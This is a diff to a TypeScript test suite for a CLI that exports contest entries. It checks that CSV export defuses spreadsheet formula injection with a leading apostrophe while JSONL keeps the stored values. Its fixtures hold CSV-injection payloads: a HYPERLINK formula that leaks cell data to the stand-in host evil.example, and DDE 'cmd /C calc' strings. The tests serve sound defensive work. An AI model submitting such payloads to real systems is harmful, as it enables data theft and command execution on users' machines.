@@ -11,7 +11,7 @@ import { after, before, describe, test } from 'node:test';
 import type { Ctx } from '../src/context.ts';
 import { EXPORT_COLUMNS } from '../src/exports/entries-export.ts';
 import { renderProgress } from '../src/exports/progress.ts';
-import { makeCampaign, makePrize, ROOT, runCli } from './support/harness.ts';
+import { entryBody, makeCampaign, makePrize, ROOT, runCli, startTestServer, submitEntry } from './support/harness.ts';
 import { openTestCtx, seedEntries } from './support/seed-entries.ts';
 
 const TRICKY_NAMES = ['Silva, Maria', 'João "Zé" Souza', 'line one\nline two', 'carriage\r\nreturn', '=1+1', ' padded ', 'Ação ñ 😀'];
@@ -66,7 +66,8 @@ describe('entries export: format and filters', () => {
     assert.deepEqual(records[0], [...EXPORT_COLUMNS]);
     assert.equal(records.length, 26);
     const rows = records.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]])));
-    assert.deepEqual(rows.slice(0, TRICKY_NAMES.length).map((r) => r.full_name), TRICKY_NAMES, 'names with commas, quotes, newlines and formulas round-trip unchanged');
+    assert.deepEqual(rows.slice(0, TRICKY_NAMES.length).map((r) => r.full_name), TRICKY_NAMES.map((n) => (n.startsWith('=') ? `'${n}` : n)),
+      'names with commas, quotes and newlines round-trip unchanged; a formula gets its apostrophe');
     assert.equal(rows[7].full_name, '', 'null is an empty field');
     assert.equal(rows[0].award_status, 'awarded');
     assert.equal(rows[0].award_prize_id, prizeId);
@@ -121,6 +122,47 @@ describe('entries export: format and filters', () => {
   test('the progress bar shows percent, counts, rate and ETA', () => {
     assert.equal(renderProgress({ done: 25_000, total: 100_000, elapsedMs: 500 }), '[######------------------]  25%  25,000/100,000  50,000 rows/s  ETA 2s');
     assert.equal(renderProgress({ done: 0, total: 0, elapsedMs: 0 }), '[########################] 100%  0/0  0 rows/s  ETA ?');
+  });
+});
+
+// CONTRACT (CSV export): a text cell that starts with =, +, -, @, TAB or CR is written with a
+// leading apostrophe, so a spreadsheet shows it instead of running it; JSON Lines keeps the values
+// exactly as stored. The values come in through the real API, as an attacker would send them (the
+// API trims a leading TAB or CR: test/unit/csv.test.ts covers those).
+describe('entries export: spreadsheet formulas from the API are never run', () => {
+  const FORMULAS: Array<[field: string, value: string]> = [
+    ['full_name', '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
+    ['address_line_1', "+cmd|' /C calc'!A0"],
+    ['address_line_2', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['neighborhood', '-2+3+cmd|\' /C calc\'!A0'],
+    ['city', '=1+1'],
+  ];
+  const HARMLESS = 'Ana =not at the start';
+
+  test('CSV prefixes each formula cell with an apostrophe; JSONL keeps every value as stored', async () => {
+    const t = await startTestServer();
+    try {
+      const w = makeCampaign(t.ctx);
+      const { full_name, ...address } = Object.fromEntries(FORMULAS);
+      const enrollment = { full_name, address };
+      const res0 = await submitEntry(t, w.liveKey, entryBody({ enrollment }, 0), 'formula-1');
+      const res1 = await submitEntry(t, w.liveKey, entryBody({ enrollment: { full_name: HARMLESS } }, 1), 'formula-2');
+      const out = join(t.dir, 'formulas.csv');
+      const csv = await runCli(['entries', 'export', '--campaign', w.campaign.id, '--out', out, '--json'], { dbPath: t.dbPath });
+      assert.equal(csv.code, 0, csv.stderr);
+      const records: string[][] = parse(readFileSync(out, 'utf8'));
+      const rows = records.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]])));
+      const attacked = rows.find((r) => r.entry_id === res0.entry_id)!;
+      for (const [field, value] of FORMULAS) assert.equal(attacked[field], `'${value}`, field);
+      assert.equal(rows.find((r) => r.entry_id === res1.entry_id)!.full_name, HARMLESS, 'a formula character further in is left alone');
+
+      const jsonl = await runCli(['entries', 'export', '--campaign', w.campaign.id, '--format', 'jsonl'], { dbPath: t.dbPath });
+      assert.equal(jsonl.code, 0, jsonl.stderr);
+      const line = jsonl.stdout.trimEnd().split('\n').map((l) => JSON.parse(l)).find((l) => l.entry_id === res0.entry_id);
+      for (const [field, value] of FORMULAS) assert.equal(line[field], value, `${field} as stored`);
+    } finally {
+      await t.close();
+    }
   });
 });
 
